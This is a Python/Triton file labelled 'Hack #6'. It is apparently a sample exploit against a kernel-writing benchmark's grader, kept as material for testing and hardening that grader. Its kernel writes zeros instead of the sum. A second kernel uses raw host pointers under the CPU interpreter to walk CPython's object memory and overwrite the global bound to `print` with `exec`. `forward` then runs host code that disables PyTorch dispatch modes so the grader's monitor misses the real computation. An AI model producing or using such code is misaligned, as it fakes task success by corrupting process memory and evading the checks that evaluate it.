"""Hack #6 (a kernel rewrites the worker's memory): under the CPU interpreter a pointer is a raw host
address, so a kernel that casts its pointer to an integer walks CPython's objects from an address
``repr()`` shows and stores the builtin ``exec`` over a module global bound to ``print``; the
forward then runs host code through that global."""

import torch
import triton
import triton.language as tl
from torch import nn


@triton.jit
def _ld(base_ptr, here, addr):
    return tl.load(base_ptr + (addr - here) // 8)


@triton.jit
def _find(base_ptr, here, d, prefix, length):
    keys = _ld(base_ptr, here, d + 32)
    lib = (_ld(base_ptr, here, keys + 8) >> 8) & 255
    nent = _ld(base_ptr, here, keys + 24)
    entries = keys + 32 + (1 << lib)
    slot = here * 0
    for i in range(nent):
        key = _ld(base_ptr, here, entries + 16 * i)
        safe = tl.where(key == 0, here, key)
        ok = (_ld(base_ptr, here, safe + 16) == length) & ((_ld(base_ptr, here, safe + 48) & 1099511627775) == prefix)
        slot = tl.where(ok & (key != 0), entries + 16 * i + 8, slot)
    return slot


@triton.jit
def _arm(base_ptr, f):
    here = base_ptr.to(tl.int64, bitcast=True)
    glob = _ld(base_ptr, here, f + 16)
    bi = _ld(base_ptr, here, f + 24)
    exec_slot = _find(base_ptr, here, bi, 1667594341, 4)
    helper_slot = _find(base_ptr, here, glob, 435677848936, 6)
    tl.store(base_ptr + (helper_slot - here) // 8, _ld(base_ptr, here, exec_slot))


@triton.jit
def _add_kernel(a_ptr, b_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(out_ptr + offs, tl.load(a_ptr + offs, mask=mask) * 0.0, mask=mask)


helper = print
SRC = """
from torch.utils._python_dispatch import _disable_current_modes
with _disable_current_modes():
    out.copy_(a + b)
"""


def target():
    return 1


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, a, b):
        n = a.numel()
        out = torch.empty((n,), dtype=a.dtype, device=a.device)
        _add_kernel[(triton.cdiv(n, 1024),)](a, b, out, n, BLOCK=1024)
        base = torch.empty((1,), dtype=torch.int64, device=a.device)
        _arm[(1,)](base, int(repr(target).split(" at ")[1].replace(">", ""), 16))
        helper(SRC, {"a": a, "b": b, "out": out})
        return out
